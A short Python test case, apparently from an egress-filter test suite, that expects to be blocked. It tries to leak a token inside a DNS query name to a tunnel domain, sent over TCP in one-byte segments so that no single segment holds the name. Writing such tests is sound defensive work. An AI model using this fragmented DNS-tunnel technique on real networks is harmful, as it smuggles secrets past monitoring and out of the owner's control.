#!/usr/bin/python3
# id: d35b_dns_tcp_1byte
# title: as d35 in segments of one byte
# needs: user
# expect: block
# why: the name is in no single segment
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    ask_tcp(dnsq(f'{TOK}.tunnel.{FNAME}'), pieces=lambda m: [m[k:k+1] for k in range(len(m))])
attempt(f, dst=(ALLOW,), chan=('dns',))
